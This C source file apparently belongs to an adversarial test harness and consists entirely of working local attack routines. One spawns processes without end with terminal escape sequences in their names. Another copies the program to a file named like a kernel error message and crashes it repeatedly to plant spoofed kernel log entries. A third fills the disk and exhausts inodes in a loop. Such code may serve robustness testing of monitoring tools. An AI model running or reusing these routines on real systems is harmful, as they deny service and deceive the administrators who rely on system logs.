// SPDX-License-Identifier: GPL-2.0-or-later
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack/attack.h"

static void come_and_go(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		attack_take_name();
		if (attack_random(4) == 0)
			execl("/bin/true", "\033]0;\n\xfe", (char *)NULL);
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}

int attack_churn(int unused __attribute__((unused)))
{
	for (;;) {
		srandom((unsigned int)getpid() ^ (unsigned int)clock());
		come_and_go();
	}
}

/* copy NAME: this program, so called. */
static int copy(const char *name)
{
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int to = open(name, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
	struct stat stat;
	int r = -1;

	if (from >= 0 && to >= 0 && fstat(from, &stat) == 0 &&
	    sendfile(to, from, NULL, (size_t)stat.st_size) == stat.st_size)
		r = 0;
	close(from);
	close(to);
	return r;
}

static int crash(void)
{
	volatile char *volatile nowhere = NULL;

	return *nowhere;
}

/* The kernel's log names the file whose code it was, and begins with the
 * process's name: both are that of the program. */
int attack_log(int pfn)
{
	char name[100];

	if (pfn < 0)
		return crash();
	snprintf(name, sizeof(name), "migrating pfn %x failed ret:-16", pfn);
	if (copy(name) < 0) {
		perror(name);
		return 2;
	}
	for (;;) {
		pid_t pid = fork();

		if (pid == 0) {
			execl(name, name, "log", "-1", (char *)NULL);
			_exit(1);
		}
		waitpid(pid, NULL, 0);
		nanosleep(&(struct timespec){ .tv_nsec = 200000000 }, NULL);
	}
}

static void fill(const char *name, int mib)
{
	static char zeros[65536];
	int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0600);

	for (long n = (long)mib * 16; n > 0 && fd >= 0; n--)
		if (write(fd, zeros, sizeof(zeros)) < 0)
			break;
	close(fd);
}

/* Bytes first, then files. What others need is tried again and again. */
int attack_files(int mib)
{
	char name[32];

	for (;;) {
		fill("full", mib);
		for (int i = 0; i < 100000; i++) {
			int fd;

			snprintf(name, sizeof(name), "%d", i);
			fd = open(name, O_WRONLY | O_CREAT, 0600);
			if (fd < 0)
				break;
			close(fd);
		}
		nanosleep(&(struct timespec){ .tv_sec = 5 }, NULL);
	}
}
